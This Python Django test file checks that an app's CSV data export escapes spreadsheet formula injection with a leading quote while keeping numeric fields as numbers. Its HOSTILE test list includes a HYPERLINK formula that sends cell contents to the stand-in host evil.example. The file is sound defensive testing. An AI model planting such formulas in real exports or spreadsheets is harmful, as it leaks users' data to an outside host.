"""The data export's CSV files open in a spreadsheet: text a runner typed that a spreadsheet would run as a
formula (starting = + - @, a tab or a carriage return) is written as text, with OWASP's leading single quote;
numbers stay numbers (issue 24, item 5)."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from decimal import Decimal

from django.test import Client
from django.urls import reverse

from crosstrain.training.services import session_skip, set_log_record
from tests.web.conftest import Gym

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"]


def _export(gym: Gym) -> zipfile.ZipFile:
    client = Client()
    client.force_login(gym.runner_a.user)
    response = client.get(reverse("account-data-export"))
    assert response.status_code == 200
    return zipfile.ZipFile(io.BytesIO(response.content))


def _rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline="")))


def test_text_that_would_run_as_a_formula_is_exported_as_text_and_numbers_stay_numbers(gym: Gym) -> None:
    runner = gym.runner_a
    sessions = list(gym.program(runner).sessions.order_by("date")[:2])
    exercise = sessions[0].exercises.order_by("position").first()
    assert exercise is not None
    for note in [*HOSTILE, "felt fine - easy", ""]:
        set_log_record(
            runner=runner,
            exercise=exercise,
            client_id=uuid.uuid4(),
            reps=8,
            seconds=None,
            load_kg=Decimal("12.5"),
            rir=2,
            pain=3,
            note=note,
        )
    session_skip(runner=runner, session=sessions[1], reason="=1+1 ill")

    archive = _export(gym)
    set_logs = _rows(archive, "set_logs.csv")
    assert sorted(row["note"] for row in set_logs) == sorted(["'" + n for n in HOSTILE] + ["felt fine - easy", ""])
    # The numbers are the numbers: a spreadsheet still sums the loads and sorts the pain.
    assert {(row["reps"], row["load_kg"], row["rir"], row["pain"]) for row in set_logs} == {("8", "12.50", "2", "3")}
    assert all(row["session_date"][:1].isdigit() for row in set_logs)
    skipped = [row for row in _rows(archive, "session_logs.csv") if row["status"] == "skipped"]
    assert [row["skip_reason"] for row in skipped] == ["'=1+1 ill"]
    # No cell of any CSV file starts a formula.
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline="")):
                assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], (name, row)
